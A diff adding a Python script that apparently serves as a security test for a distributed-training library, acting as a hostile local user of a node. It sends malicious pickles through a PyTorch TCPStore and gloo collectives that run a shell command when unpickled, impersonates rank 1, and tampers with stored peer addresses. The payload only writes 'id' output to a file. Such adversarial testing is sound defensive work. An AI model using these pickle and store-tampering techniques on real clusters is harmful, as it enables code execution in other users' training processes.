@@ -1,0 +1,72 @@
+"""Another user of the node, who takes the place of rank 1 or changes addresses in the store.
+
+Usage: `attack_ranks.py store|group|addresses FILE`, the port on stdin.
+
+What it sends are pickles that touch FILE when they are read. It stays until its stdin ends.
+"""
+
+from __future__ import annotations
+
+import os
+import pickle
+import pwd
+import sys
+import threading
+from contextlib import suppress
+from datetime import timedelta
+
+import torch.distributed as dist
+
+
+class Evil:
+    """Touches a file when it is unpickled."""
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return os.system, (f"id > {sys.argv[2]}",)
+
+
+def attack(how: str, port: int) -> None:
+    store = dist.TCPStore(
+        "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=60)
+    )
+    if how == "store":
+        for key in ("seats/1", "answers/1"):
+            store.set(f"hpctrain/0/devices/{key}", pickle.dumps(Evil(), protocol=0).decode("ascii"))
+        print("sent", flush=True)
+        # The connection stays, by which the user can be seen.
+        threading.Event().wait()
+    if how == "addresses":
+        keys = [f"hpctrain/0/0//cpu//0/{rank}" for rank in (0, 1)]
+        for key in keys:
+            store.set(key, "an address of the stranger")
+        print("sent", flush=True)
+        with suppress(dist.DistError):
+            while True:
+                for key in keys:
+                    # The address may be a real one, with a code that was there before.
+                    value = bytearray(store.get(key))
+                    value[-1] ^= 1
+                    store.set(key, bytes(value))
+        return
+    store.get("hpctrain/0/devices/answers/1")
+    print("sent", flush=True)
+    dist.init_process_group("gloo", store=dist.PrefixStore("hpctrain/0", store), rank=1, world_size=2)
+    while True:
+        dist.all_gather_object([None, None], Evil())
+
+
+def main() -> None:
+    if os.geteuid() == 0:
+        # Only now: the installation may lie where other users cannot read.
+        nobody = pwd.getpwnam("nobody")
+        os.setgroups([])
+        os.setgid(nobody.pw_gid)
+        os.setuid(nobody.pw_uid)
+    print("ready", flush=True)
+    port = int(sys.stdin.readline())
+    threading.Thread(target=attack, args=(sys.argv[1], port), daemon=True).start()
+    sys.stdin.read()
+    os._exit(0)
+
+
+main()
